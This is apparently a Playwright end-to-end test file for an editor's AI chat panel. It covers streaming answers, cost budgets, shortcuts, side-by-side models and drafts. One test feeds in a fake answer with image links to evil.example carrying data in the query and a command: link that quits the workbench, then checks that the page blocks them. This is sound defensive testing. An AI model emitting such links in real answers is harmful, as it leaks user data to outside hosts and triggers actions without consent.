/** A chat from its first message to a new one. What the page alone shows is tested in test/pages. */

import assert from 'node:assert/strict';
import type { FrameLocator } from 'playwright-core';
import { commands } from '../../../../src/shared/generated/names.ts';
import { until } from '../../../until.ts';
import { nightly, openWorld, shot, type World } from '../../session.ts';
import { sendMessage } from '../../workbench-page.ts';
import { signedIn } from '../../worlds.ts';

const CHAT = '/v1/chat/completions';

describe('chat', () => {
  let world: World;
  let chat: FrameLocator;
  before(async () => {
    world = await openWorld(signedIn, { 'src/retry.ts': 'export function retry() {\n  return 3;\n}\n' });
  });
  beforeEach(async () => {
    await world.ui.run(commands.chat.openInEditor);
    chat = await world.ui.webview('panel');
    await message().waitFor();
  });

  const message = () => chat.getByRole('textbox', { name: 'Message' });
  const answers = () => chat.locator('chat-turn[data-turn="answer"]');
  const last = () => answers().last();
  const fail = (effect: Parameters<World['service']['faults']['add']>[0]['effect']) =>
    world.service.faults.add({ effect, path: CHAT });

  /** Sends a message and waits for the beginning of the answer, which `last()` then returns. */
  async function ask(text: string): Promise<void> {
    const count = await answers().count();
    await sendMessage(message(), text);
    await until('the answer', async () => (await answers().count()) > count);
  }

  /** Sends a message and waits for the complete answer. */
  async function answered(text: string): Promise<void> {
    await ask(text);
    await last().locator('.turn-tools').waitFor();
  }

  /** Asks for an answer without an end, and waits for its first words. */
  async function askForever(): Promise<void> {
    fail({ kind: 'stream', how: 'endless', ms: 20 });
    await ask('Count to infinity');
    await last().locator('.answer-text p').first().waitFor();
  }

  it('streams an answer as Markdown, with its cost, and warns above the budget', async () => {
    await world.ui.set('switchyard.chat.budget', 0.0001);
    await answered('Compare three ways to retry a request, in a table');
    await last().locator('table').waitFor();
    await last().locator('.code code').waitFor();
    assert.equal(await message().inputValue(), '');
    await last()
      .locator('.turn-cost')
      .filter({ hasText: /tokens · (?:cost )?0\.\d+/ })
      .waitFor();
    assert.equal(await chat.locator('.chat-cost').count(), 0);
    await chat.locator('.banner.budget').waitFor();
    await shot(world.ui.page, 'chat-answer');
  });

  it('loads and runs nothing that an answer contains, by the policy of the page in the real workbench', async () => {
    const foreign: string[] = [];
    const refused: string[] = [];
    world.ui.page.on('request', (request) => foreign.push(...(/evil/.test(request.url()) ? [request.url()] : [])));
    world.ui.page.on('console', (line) => refused.push(...(/evil/.test(line.text()) ? [line.text()] : [])));
    const content =
      '![x](https://evil.example/?d=1) <img src="https://evil.example/2"> [go](command:workbench.action.quit) [ok](https://example.com/a)';
    fail({ kind: 'body', body: { choices: [{ message: { role: 'assistant', content }, finish_reason: 'stop' }] } });
    await ask('Show me a picture');
    await last().locator('a[href="https://example.com/a"]').waitFor();
    assert.equal(await last().locator('img, a[href^="command"]').count(), 0);
    assert.deepEqual([foreign, refused], [[], []]);
    await chat.locator('body').evaluate((body) => {
      const image = body.ownerDocument.createElement('img');
      image.src = 'https://evil.example/witness';
      body.append(image);
    });
    await until('the policy to block an image', () => refused.some((line) => /content security policy/i.test(line)));
  });

  it('has keyboard shortcuts to move between code, to stop, and for a new chat', async () => {
    await answered('Compare three ways to retry a request, in a table');
    await message().press('Control+Alt+PageUp');
    await until('the code block to have the focus', () =>
      last().evaluate(() => document.activeElement?.closest('.code') !== null),
    );
    await askForever();
    const stopped = last().getByText('You stopped this response.');
    // The workbench enables the key binding shortly after the first words of an answer.
    await until('the response to stop', async () => {
      await message().press('Control+Escape');
      return stopped.waitFor({ timeout: 500 }).then(
        () => true,
        () => false,
      );
    });
    await message().press('Control+N');
    await until('the empty chat', async () => (await chat.locator('chat-turn').count()) === 0);
  });

  nightly(
    'asks another model too, side by side, and goes on with one of them',
    'unit/service/chat/two-models.test',
    async () => {
      const { ui } = world;
      const pair = chat.locator('.pair');
      await answered('Say hello');
      await last().locator('[data-action=askAlso]').click();
      await ui.inputWidget.getByText('openai/', { exact: false }).first().click();
      await pair.locator('chat-turn').nth(1).locator('.turn-cost').waitFor();
      await world.inThemes(['light', 'contrast', 'dark'], (theme) => shot(ui.page, `two-models-${theme}`));
      await pair.locator('[data-action=continueWith]').nth(1).click();
      await pair.waitFor({ state: 'detached' });
      await last().getByLabel('Previous Version').waitFor();
      await message().fill('Count to three');
      await chat.locator('[data-action=sendToTwo]').click();
      await ui.inputWidget.getByText('anthropic/', { exact: false }).first().click();
      await pair.locator('chat-turn').nth(1).locator('.turn-cost').waitFor();
      await until('the message to be sent', async () => (await message().inputValue()) === '');
      await pair.locator('[data-action=continueWith]').first().click();
      await pair.waitFor({ state: 'detached' });
    },
  );

  nightly('is the same in the secondary side bar, with its draft', 'unit/service/chat/host.test', async () => {
    await answered('Say hello');
    await message().fill('a draft that must not be lost');
    await world.ui.run(commands.chat.open);
    const view = await world.ui.webview('view');
    await view.locator('chat-turn[data-turn="answer"]').last().waitFor();
    const twin = view.getByRole('textbox', { name: 'Message' });
    await until('the draft', async () => (await twin.inputValue()) === 'a draft that must not be lost');
    await shot(world.ui.page, 'chat-both');
  });
});
